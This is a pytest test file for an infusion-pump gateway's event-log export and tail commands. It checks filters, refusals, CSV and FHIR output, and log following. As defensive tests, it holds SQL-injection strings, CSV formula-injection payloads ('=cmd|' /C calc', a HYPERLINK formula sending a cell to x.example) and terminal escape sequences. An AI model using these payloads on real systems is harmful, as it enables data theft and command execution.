"""``pumpgw events export`` and ``pumpgw events tail``: filters, formats, refusals, following."""

from __future__ import annotations

import csv
import io
import json
import queue
import signal
import sqlite3
import subprocess
import sys
import threading
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta, timezone
from decimal import Decimal
from pathlib import Path
from typing import IO, Any

import pytest
from click.testing import CliRunner, Result
from event_samples import sample
from jsonschema import Draft202012Validator

from pumpgw.gateway.cli import main
from pumpgw.gateway.clock import FakeClock
from pumpgw.gateway.errors import ConfigError, EnvironmentProblem
from pumpgw.gateway.eventlog import EventStore, open_read_only
from pumpgw.gateway.events import NO_REFS, Event, EventType, NewEvent, Refs, json_schema
from pumpgw.gateway.events_export import (
    CSV_COLUMNS,
    Filter,
    atomic_output,
    csv_text,
    fhir_json,
    filter_clause,
    follow_events,
    parse_filter,
    parse_time,
    poll_events,
    read_events,
    tail_events,
    text_line,
    write_csv,
)

START = datetime(2026, 11, 22, 3, 0, tzinfo=UTC)
T = EventType

#: What the fixture log holds, one commit a minute from START (seq 1 at 03:00:00.000Z):
#: (type, pump, channel, refs).
EVENTS: list[tuple[EventType, str | None, int | None, Refs]] = [
    (T.GATEWAY_STARTED, None, None, Refs()),  # 1, 03:00
    (T.INFUSION_STARTED, "p1", 1, Refs("MRN-1", "ORD-1", "RN-1")),  # 2, 03:01
    (T.INFUSION_RATE_CHANGED, "p1", 1, Refs("MRN-1", "ORD-1", "RN-1")),  # 3, 03:02
    (T.ALARM_RAISED, "p2", 1, Refs("MRN-2")),  # 4, 03:03
    (T.CHANNEL_STATE, "p2", 2, Refs()),  # 5, 03:04
    (T.LINK_LOST, "p2", None, Refs()),  # 6, 03:05
    (T.INFUSION_STOPPED, "p2", 1, Refs("MRN-2", "ORD-2")),  # 7, 03:06
]


def append(
    store: EventStore,
    clock: FakeClock,
    type: EventType,
    pump: str | None = None,
    channel: int | None = None,
    refs: Refs = NO_REFS,
    payload: dict[str, Any] | None = None,
) -> Event:
    clock.advance(60)
    event = NewEvent(type, sample(type) if payload is None else payload, pump, channel, refs)
    return store.append([event])[0]


@pytest.fixture
def clock() -> FakeClock:
    return FakeClock(START - timedelta(seconds=60))


@pytest.fixture
def store(tmp_path: Path, clock: FakeClock) -> Iterator[EventStore]:
    """A log of EVENTS, kept open for writing (as a running gateway keeps it) during the test."""
    s = EventStore(tmp_path / "events.sqlite3", "gw-1", clock)
    for type, pump, channel, refs in EVENTS:
        append(s, clock, type, pump, channel, refs)
    yield s
    s.close()


@pytest.fixture
def log(store: EventStore) -> Path:
    return store.path


def cli(*args: str | Path) -> Result:
    return CliRunner().invoke(main, ["events", *(str(a) for a in args)])


def export(log: Path, *args: str) -> list[dict[str, Any]]:
    result = cli("export", "--log", log, *args)
    assert result.exit_code == 0, result.output
    return [json.loads(line) for line in result.stdout.splitlines()]


def seqs(log: Path, *args: str) -> list[int]:
    return [r["seq"] for r in export(log, *args)]


def refused(result: Result, *words: str) -> None:
    """A usage error: exit 2, one line on stderr naming ``words``, nothing on stdout, no traceback."""
    assert result.exit_code == 2, result.output
    assert result.stdout == ""
    assert len(result.stderr.strip().splitlines()) == 1, result.stderr
    assert result.stderr.startswith("pumpgw: ")
    for word in words:
        assert word in result.stderr
    assert isinstance(result.exception, SystemExit)  # a clean exit, not an exception


# -- filters -------------------------------------------------------------------------------------


def test_export_without_filters_is_every_event_in_order(log: Path) -> None:
    records = export(log)
    assert [r["seq"] for r in records] == [1, 2, 3, 4, 5, 6, 7]
    assert records[0]["time"] == "2026-11-22T03:00:00.000Z"
    assert records[1]["patient"] == "MRN-1"
    assert records[1]["order"] == "ORD-1"


def test_since_is_inclusive_and_until_exclusive(log: Path) -> None:
    assert seqs(log, "--since", "2026-11-22T03:02:00Z") == [3, 4, 5, 6, 7]
    assert seqs(log, "--until", "2026-11-22T03:02:00Z") == [1, 2]
    assert seqs(log, "--since", "2026-11-22T03:02:00.001Z", "--until", "2026-11-22T03:05:00Z") == [4, 5]


def test_since_with_an_offset_is_the_same_instant_in_utc(log: Path) -> None:
    assert seqs(log, "--since", "2026-11-22T04:05:00+01:00") == [6, 7]
    assert seqs(log, "--until", "2026-11-21T22:01:00-05:00") == [1]


def test_a_date_means_midnight_utc(log: Path) -> None:
    assert seqs(log, "--since", "2026-11-22") == [1, 2, 3, 4, 5, 6, 7]
    assert seqs(log, "--since", "2026-11-23") == []
    assert seqs(log, "--since", "2026-11-21", "--until", "2026-11-22") == []


def test_pump_and_patient_filters_match_any_of_their_values(log: Path) -> None:
    assert seqs(log, "--pump", "p1") == [2, 3]
    assert seqs(log, "--pump", "p1", "--pump", "p2") == [2, 3, 4, 5, 6, 7]
    assert seqs(log, "--patient", "MRN-2") == [4, 7]
    assert seqs(log, "--patient", "MRN-1", "--patient", "MRN-2") == [2, 3, 4, 7]


def test_type_filters_take_exact_types_and_prefixes(log: Path) -> None:
    assert seqs(log, "--type", "infusion.started") == [2]
    assert seqs(log, "--type", "infusion.*") == [2, 3, 7]
    assert seqs(log, "--type", "channel.alarm_*") == [4]
    assert seqs(log, "--type", "channel.*", "--type", "gateway.started") == [1, 4, 5]


def test_filters_combine_with_and(log: Path) -> None:
    assert seqs(log, "--pump", "p2", "--type", "infusion.*") == [7]
    assert seqs(log, "--pump", "p2", "--patient", "MRN-2", "--since", "2026-11-22T03:04:00Z") == [7]


def test_filter_values_are_bound_never_spliced_into_sql(log: Path) -> None:
    assert seqs(log, "--pump", "p1' OR '1'='1") == []
    where, params = filter_clause(Filter(pumps=("x') OR 1=1 --",), patients=("a", "b")))
    assert "x')" not in where
    assert "x') OR 1=1 --" in params
    assert where == "WHERE pump IN (?) AND patient IN (?,?)"


def test_filter_clause_of_no_filter_is_empty() -> None:
    assert filter_clause(Filter()) == ("", [])


def test_a_bound_between_two_milliseconds_rounds_up() -> None:
    # The log has millisecond times: an event at .000 is before 03:00:00.000500, an event at .001 not.
    f = Filter(since=datetime(2026, 11, 22, 3, 0, 0, 500, tzinfo=UTC))
    assert filter_clause(f) == ("WHERE time >= ?", ["2026-11-22T03:00:00.001Z"])


def test_a_prefix_filter_is_case_and_underscore_exact(tmp_path: Path) -> None:
    # LIKE would match "channel.alarmXraised" for "channel.alarm_%" and "INFUSION.x" for "infusion.%".
    db = sqlite3.connect(":memory:")
    db.execute("CREATE TABLE events (type TEXT)")
    db.executemany(
        "INSERT INTO events VALUES (?)",
        [("channel.alarmXraised",), ("INFUSION.started",), ("channel.alarm_raised",), ("infusion.started",)],
    )
    where, params = filter_clause(Filter(types=("channel.alarm_*", "infusion.*")))
    rows = db.execute(f"SELECT type FROM events {where}", params).fetchall()
    assert sorted(r[0] for r in rows) == ["channel.alarm_raised", "infusion.started"]


# -- refusals ------------------------------------------------------------------------------------


def test_a_time_without_a_zone_is_refused_never_guessed(log: Path) -> None:
    result = cli("export", "--log", log, "--since", "2026-11-22T03:00:00")
    refused(result, "--since", "'2026-11-22T03:00:00'", "zone", "never guessed")
    with pytest.raises(ConfigError) as info:
        parse_time("2026-11-22 03:00", "--until")
    assert info.value.key == "--until"


def test_times_that_are_not_iso_8601_are_refused(log: Path) -> None:
    refused(cli("export", "--log", log, "--until", "yesterday"), "--until", "'yesterday'", "ISO 8601")
    refused(cli("export", "--log", log, "--since", "2026-02-30"), "--since", "'2026-02-30'")


def test_since_after_until_is_refused(log: Path) -> None:
    refused(cli("export", "--log", log, "--since", "2026-11-23", "--until", "2026-11-22"), "--until", "after")


def test_parse_time_accepts_z_offsets_and_dates() -> None:
    assert parse_time("2026-11-22T03:00:00Z") == START
    assert parse_time("2026-11-22T03:00:00z") == START
    assert parse_time("2026-11-22T04:00:00+01:00") == START
    assert parse_time("2026-11-22T04:00:00+01:00").utcoffset() == timedelta(hours=1)
    assert parse_time("2026-11-22") == datetime(2026, 11, 22, tzinfo=UTC)


def test_an_unknown_type_is_refused_naming_the_valid_ones(log: Path) -> None:
    result = cli("export", "--log", log, "--type", "infusion.start")
    refused(result, "--type", "'infusion.start'", "infusion.started", "gateway.started", "infusion.*")
    refused(cli("export", "--log", log, "--type", "nothing.*"), "'nothing.*'")
    refused(cli("export", "--log", log, "--type", "*"), "'*'")
    refused(cli("tail", "--log", log, "--type", "infusion"), "'infusion'")


def test_filter_refuses_naive_datetimes() -> None:
    with pytest.raises(ConfigError, match="aware"):
        Filter(since=datetime(2026, 11, 22))  # noqa: DTZ001 - the point of the test


def test_a_missing_log_is_named(tmp_path: Path) -> None:
    refused(cli("export", "--state-dir", tmp_path), "no event log at", str(tmp_path / "events.sqlite3"))
    refused(cli("tail", "--log", tmp_path / "nope.sqlite3"), "no event log at")


def test_a_file_that_is_not_a_log_is_named_with_exit_1(tmp_path: Path) -> None:
    bad = tmp_path / "events.sqlite3"
    bad.write_bytes(b"not sqlite at all, just text " * 100)
    result = cli("export", "--log", bad)
    assert result.exit_code == 1
    assert result.stderr.startswith(f"pumpgw: event log {bad}: ")
    assert "SQLite database" in result.stderr  # eventlog's own words: not one, or damaged
    assert len(result.stderr.splitlines()) == 1
    assert "Traceback" not in result.output


def test_state_dir_and_log_together_are_refused(log: Path) -> None:
    refused(cli("export", "--state-dir", log.parent, "--log", log), "--state-dir", "--log")


def test_state_dir_finds_events_sqlite3(log: Path) -> None:
    result = cli("export", "--state-dir", log.parent, "--type", "gateway.*")
    assert result.exit_code == 0, result.output
    assert [json.loads(x)["seq"] for x in result.stdout.splitlines()] == [1]


# -- JSONL ---------------------------------------------------------------------------------------


def test_jsonl_records_validate_against_the_published_schema(
    log: Path, store: EventStore, clock: FakeClock
) -> None:
    for type in EventType:  # one of every type, with its refs, on top of the fixture's events
        append(store, clock, type, "p9", 1, Refs("MRN-9", "ORD-9", "RN-9"))
    validator = Draft202012Validator(json_schema())
    records = export(log)
    assert len(records) == len(EVENTS) + len(EventType)
    for record in records:
        errors = [e.message for e in validator.iter_errors(record)]
        assert errors == [], (record["type"], errors)


def test_jsonl_is_compact_utf8_one_record_per_line(log: Path, store: EventStore, clock: FakeClock) -> None:
    append(store, clock, T.ALARM_RAISED, "pömpe", 1, payload={"alarm": "Okklusion µ\nzweite Zeile"})
    result = CliRunner().invoke(main, ["events", "export", "--log", str(log), "--pump", "pömpe"])
    raw = result.stdout_bytes
    assert raw.count(b"\n") == 1
    assert raw.endswith(b"\n")
    assert "pömpe".encode() in raw
    assert b", " not in raw
    assert b'": ' not in raw
    assert json.loads(raw)["payload"] == {"alarm": "Okklusion µ\nzweite Zeile"}


# -- CSV -----------------------------------------------------------------------------------------


def read_csv(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff")  # the byte-order mark Excel needs to read UTF-8
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


def unquote(cell: str) -> str:
    """The documented reverse of the formula guard: drop one leading '."""
    return cell[1:] if cell.startswith("'") else cell


def test_csv_round_trips_every_column(log: Path) -> None:
    result = cli("export", "--log", log, "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = read_csv(result.stdout)
    assert tuple(rows[0]) == CSV_COLUMNS
    records = export(log)
    assert len(rows) == len(records) == len(EVENTS)
    for row, record in zip(rows, records, strict=True):
        for column in CSV_COLUMNS:
            cell, value = unquote(row[column]), record[column]
            if column == "payload":
                assert json.loads(cell) == value
            elif value is None:
                assert cell == ""
            else:
                assert cell == str(value), column


def test_csv_guards_text_cells_against_formulas_but_not_payload_or_numbers(
    store: EventStore, clock: FakeClock, log: Path
) -> None:
    attack = '=HYPERLINK("http://x.example/?"&A1,"click")'
    append(
        store,
        clock,
        T.SCAN_REJECTED,
        "-p3",
        -1,
        Refs("=cmd|' /C calc'!A0", "+ORD", "@RN"),
        payload={**sample(T.SCAN_REJECTED), "raw": attack},
    )
    result = cli("export", "--log", log, "--format", "csv", "--type", "scan.rejected")
    row = read_csv(result.stdout)[0]
    assert row["patient"] == "'=cmd|' /C calc'!A0"
    assert row["order"] == "'+ORD"
    assert row["clinician"] == "'@RN"
    assert row["pump"] == "'-p3"
    assert row["channel"] == "-1"  # a number stays a number
    assert json.loads(row["payload"])["raw"] == attack  # JSON intact; a cell starting "{" is no formula
    assert row["payload"].startswith("{")


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1-2", "'+1-2"),
        ("-A1", "'-A1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'quoted", "''quoted"),  # so dropping one leading ' always gives the value back
        ("-12.5", "-12.5"),
        ("+3", "+3"),
        ("MRN-1", "MRN-1"),
        ("", ""),
    ],
)
def test_csv_text_guard(value: str, cell: str) -> None:
    assert csv_text(value) == cell
    assert unquote(cell) == value or not cell.startswith("'")


def test_csv_writer_without_bom_for_programs(log: Path) -> None:
    db = open_read_only(log)
    out = io.StringIO(newline="")
    assert write_csv(read_events(db, str(log)), out, bom=False) == len(EVENTS)
    db.close()
    assert out.getvalue().startswith("seq,id,time,")
    assert "\r\n" in out.getvalue()


# -- FHIR ----------------------------------------------------------------------------------------


def test_fhir_export_is_ndjson_of_each_events_resources(log: Path) -> None:
    from pumpgw.fhir.events import event_to_fhir

    db = open_read_only(log)
    expected = [r for e in read_events(db, str(log)) for r in event_to_fhir(e)]
    db.close()
    result = cli("export", "--log", log, "--format", "fhir")
    assert result.exit_code == 0, result.output
    lines = [json.loads(line, parse_float=Decimal) for line in result.stdout.splitlines()]
    assert lines == expected
    assert {r["resourceType"] for r in lines} >= {"MedicationAdministration", "AuditEvent"}
    assert '"value":4.00,' in result.stdout  # the rate as the pump wrote it, not the float 4.0
    assert f"as {len(expected)} FHIR resource" in result.stderr


def test_fhir_export_of_an_event_without_a_valid_form_names_it(log: Path) -> None:
    edit = sqlite3.connect(log)  # valid JSON, but not an infusion payload (an edited log)
    edit.execute("UPDATE events SET payload = '{\"x\":1}' WHERE seq = 2")
    edit.commit()
    edit.close()
    out = log.parent / "out.ndjson"
    result = cli("export", "--log", log, "--format", "fhir", "--output", out)
    assert result.exit_code == 1
    assert "event seq 2 (infusion.started)" in result.stderr
    assert len(result.stderr.splitlines()) == 1
    assert not out.exists()


def test_fhir_export_without_the_mapping_fails_cleanly(log: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "pumpgw.fhir.events", None)  # import raises ImportError
    out = log.parent / "out.ndjson"
    result = cli("export", "--log", log, "--format", "fhir", "--output", out)
    assert result.exit_code == 1
    assert "FHIR export is not available" in result.stderr
    assert not out.exists()
    assert list(log.parent.glob(".out.ndjson.*")) == []


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (
            {"a": Decimal("4.00"), "b": [Decimal("-0"), Decimal("1E+2"), 3, True, None, 'µ"']},
            '{"a":4.00,"b":[-0,1E+2,3,true,null,"µ\\""]}',
        ),
        ([], "[]"),
    ],
)
def test_fhir_json_writes_decimals_digit_for_digit(value: Any, text: str) -> None:
    assert fhir_json(value) == text
    assert json.loads(text, parse_float=Decimal) == value


def test_fhir_json_refuses_nan() -> None:
    with pytest.raises(ValueError, match="NaN"):
        fhir_json({"x": Decimal("NaN")})


# -- output files and concurrency ----------------------------------------------------------------


def test_output_file_is_written_whole_private_and_summarised(log: Path) -> None:
    out = log.parent / "export.jsonl"
    out.write_text("an older export\n")
    result = cli("export", "--log", log, "--type", "infusion.*", "--output", out)
    assert result.exit_code == 0, result.output
    assert result.stdout == ""
    assert result.stderr == f"pumpgw: exported 3 events (seq 2-7) to {out}\n"
    assert [json.loads(x)["seq"] for x in out.read_text().splitlines()] == [2, 3, 7]
    assert out.stat().st_mode & 0o777 == 0o600  # exports name patients
    assert [p.name for p in log.parent.iterdir() if p.name.startswith(".")] == []


def test_summary_of_an_export_that_matched_nothing(log: Path) -> None:
    result = cli("export", "--log", log, "--pump", "nope")
    assert result.exit_code == 0
    assert result.stdout == ""
    assert result.stderr == "pumpgw: exported 0 events (none matched) to standard output\n"


def test_a_failed_export_leaves_the_previous_file_and_no_temporary(log: Path) -> None:
    out = log.parent / "export.csv"
    out.write_text("the previous export\n")
    edit = sqlite3.connect(log)  # damage event 5: the export fails when it reaches it
    edit.execute("UPDATE events SET payload = 'not json' WHERE seq = 5")
    edit.commit()
    edit.close()
    result = cli("export", "--log", log, "--format", "csv", "--output", out)
    assert result.exit_code == 1
    assert "seq 5" in result.stderr
    assert "Traceback" not in result.output
    assert out.read_text() == "the previous export\n"
    assert [p.name for p in log.parent.iterdir() if p.name.startswith(".")] == []


def test_atomic_output_removes_its_temporary_file_on_error(tmp_path: Path) -> None:
    out = tmp_path / "x.txt"

    def half_written() -> None:
        with atomic_output(out) as f:
            f.write("half")
            raise RuntimeError("stop")

    with pytest.raises(RuntimeError):
        half_written()
    assert list(tmp_path.iterdir()) == []
    with pytest.raises(EnvironmentProblem, match="directory"):
        atomic_output(tmp_path).__enter__()


def test_output_onto_the_log_itself_is_refused(log: Path) -> None:
    refused(cli("export", "--log", log, "--output", log), "event log itself")
    refused(cli("export", "--log", log, "--output", f"{log}-wal"), "event log itself")
    refused(cli("export", "--log", log, "--output", log.parent / "no" / "x.csv"), "does not exist")


def test_export_while_a_writer_holds_the_log_and_a_transaction_open(log: Path) -> None:
    # The fixture's store holds the log open for writing (and its lock); another writer is in the
    # middle of a transaction. The export reads the committed events and is not blocked.
    writer = sqlite3.connect(log, isolation_level=None)
    writer.execute("BEGIN IMMEDIATE")
    writer.execute("DELETE FROM events WHERE seq > 2")
    try:
        assert seqs(log) == [1, 2, 3, 4, 5, 6, 7]
    finally:
        writer.execute("ROLLBACK")
        writer.close()


# -- tail ----------------------------------------------------------------------------------------


def test_tail_prints_the_last_n_events(log: Path) -> None:
    result = cli("tail", "--log", log, "-n", "2")
    assert result.exit_code == 0, result.output
    lines = result.stdout.splitlines()
    assert len(lines) == 2
    assert lines[0].startswith("2026-11-22T03:05:00.000Z #6 ")
    assert "pump.link_lost" in lines[0]
    assert lines[1].startswith("2026-11-22T03:06:00.000Z #7 ")
    assert "p2/1 patient=MRN-2 order=ORD-2" in lines[1]
    assert '"state":"idle"' in lines[1]


def test_tail_defaults_to_ten_and_filters_before_counting(log: Path) -> None:
    assert len(cli("tail", "--log", log).stdout.splitlines()) == len(EVENTS)
    result = cli("tail", "--log", log, "-n", "2", "--type", "infusion.*", "--format", "jsonl")
    assert [json.loads(x)["seq"] for x in result.stdout.splitlines()] == [3, 7]
    result = cli("tail", "--log", log, "-n", "5", "--pump", "p1")
    assert [line.split()[1] for line in result.stdout.splitlines()] == ["#2", "#3"]
    assert cli("tail", "--log", log, "-n", "0").stdout == ""


def test_text_line_escapes_what_would_drive_the_terminal() -> None:
    e = Event(
        1,
        "id",
        "2026-11-22T03:00:00.000Z",
        "gw",
        "channel.alarm_raised",
        "p\x1b[2J",
        1,
        None,
        None,
        None,
        {"alarm": "x\x9b31m"},
        "0" * 64,
        "1" * 64,
    )
    line = text_line(e)
    assert "\x1b" not in line
    assert "\x9b" not in line
    assert "p\\x1b[2J/1" in line
    assert "\\x9b31m" in line


def test_poll_reads_only_new_events_and_skips_filtered_ones_once(
    log: Path, store: EventStore, clock: FakeClock
) -> None:
    db = open_read_only(log)
    wanted = parse_filter(types=["infusion.*"])
    recent, head = tail_events(db, str(log), wanted, 1)
    assert [e.seq for e in recent] == [7]
    assert head == 7
    append(store, clock, T.LINK_RESTORED, "p2")
    append(store, clock, T.INFUSION_STARTED, "p2", 1)
    new, head = poll_events(db, str(log), wanted, head)
    assert [e.seq for e in new] == [9]
    assert head == 9
    assert poll_events(db, str(log), wanted, head) == ([], 9)
    db.close()


def test_follow_events_yields_each_commit_after_it_started(
    log: Path, store: EventStore, clock: FakeClock
) -> None:
    db = open_read_only(log)
    polls: list[float] = []

    def sleep(seconds: float) -> None:  # between polls the gateway commits one event
        polls.append(seconds)
        append(store, clock, T.ALARM_CLEARED, "p2", 1)

    followed = follow_events(db, str(log), Filter(), 7, 0.25, sleep=sleep)
    assert [next(followed).seq for _ in range(3)] == [8, 9, 10]
    assert polls == [0.25, 0.25, 0.25]
    db.close()


class Lines:
    """Lines of a child's output, read on a thread, so a test can wait for one with a timeout."""

    def __init__(self, stream: IO[str]) -> None:
        self._q: queue.Queue[str | None] = queue.Queue()
        self._thread = threading.Thread(target=self._read, args=(stream,), daemon=True)
        self._thread.start()

    def _read(self, stream: IO[str]) -> None:
        with stream:
            for line in stream:
                self._q.put(line.rstrip("\n"))
        self._q.put(None)

    def join(self) -> None:
        """Once the process has exited: wait until its output is read to the end and closed."""
        self._thread.join(timeout=15)

    def next(self, timeout: float = 15.0) -> str:
        line = self._q.get(timeout=timeout)
        assert line is not None, "the process closed its output"
        return line

    def rest(self, timeout: float = 15.0) -> list[str]:
        """The remaining lines, once the process has closed its output."""
        lines = []
        while (line := self._q.get(timeout=timeout)) is not None:
            lines.append(line)
        return lines


Tail = tuple[subprocess.Popen[str], Lines, Lines]


def start_tail(*args: str | Path) -> Tail:
    proc = subprocess.Popen(
        [sys.executable, "-m", "pumpgw.gateway.cli", "events", "tail", *(str(a) for a in args)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        encoding="utf-8",
    )
    assert proc.stdout is not None
    assert proc.stderr is not None
    return proc, Lines(proc.stdout), Lines(proc.stderr)


def interrupt(tail: Tail) -> None:
    """Ctrl-C: the tail ends cleanly with exit 0."""
    proc, out, err = tail
    proc.send_signal(signal.SIGINT)
    try:
        assert proc.wait(timeout=15) == 0
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
        out.join()
        err.join()


def test_tail_follow_prints_events_committed_after_it_started(
    log: Path, store: EventStore, clock: FakeClock
) -> None:
    tail = start_tail("--log", log, "-n", "1", "-f", "--interval", "0.02", "--format", "jsonl")
    _, out, err = tail
    try:
        assert json.loads(out.next())["seq"] == 7  # the last event; now following
        append(store, clock, T.INFUSION_PAUSED, "p1", 1, Refs("MRN-1"))
        assert json.loads(out.next())["type"] == "infusion.paused"
        append(store, clock, T.INFUSION_RESUMED, "p1", 1)
        append(store, clock, T.INFUSION_STOPPED, "p1", 1)
        assert [json.loads(out.next())["seq"] for _ in range(2)] == [9, 10]
    finally:
        interrupt(tail)
    assert err.rest() == []  # nothing on stderr: no message, no traceback


def test_tail_follow_waits_for_a_log_that_does_not_exist_yet(tmp_path: Path) -> None:
    path = tmp_path / "state" / "events.sqlite3"
    tail = start_tail("--state-dir", path.parent, "-f", "--interval", "0.02")
    _, out, err = tail
    try:
        waiting = err.next()
        assert "waiting for it to be created" in waiting
        assert str(path) in waiting
        clock = FakeClock(START)
        s = EventStore(path, "gw-1", clock)
        try:
            s.append([NewEvent(T.GATEWAY_STARTED, sample(T.GATEWAY_STARTED))])
            line = out.next()
            assert line.startswith("2026-11-22T03:00:00.000Z #1 ")
            assert "gateway.started" in line
        finally:
            s.close()
    finally:
        interrupt(tail)


def test_help_texts_name_the_options() -> None:
    result = CliRunner().invoke(main, ["events", "export", "--help"])
    assert result.exit_code == 0
    for option in (
        "--state-dir",
        "--log",
        "--format",
        "--since",
        "--until",
        "--pump",
        "--patient",
        "--type",
        "--output",
        "jsonl",
        "csv",
        "fhir",
    ):
        assert option in result.output
    result = CliRunner().invoke(main, ["events", "tail", "--help"])
    for option in ("-n", "--follow", "--type", "--pump", "--format", "--interval"):
        assert option in result.output


def test_offsets_other_than_utc_are_normalised_in_the_clause() -> None:
    tz = timezone(timedelta(hours=-5))
    where, params = filter_clause(Filter(until=datetime(2026, 11, 21, 22, 0, tzinfo=tz)))
    assert (where, params) == ("WHERE time < ?", ["2026-11-22T03:00:00.000Z"])


def test_tail_ignores_sigpipe_style_early_close(log: Path) -> None:
    # ``pumpgw events tail | head -1``: the reader goes away; no traceback, exit 0.
    proc = subprocess.Popen(
        [sys.executable, "-m", "pumpgw.gateway.cli", "events", "tail", "--log", str(log), "-n", "7"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    assert proc.stdout is not None
    proc.stdout.close()
    _, stderr = proc.communicate(timeout=15)
    assert stderr == b""
    assert proc.returncode == 0
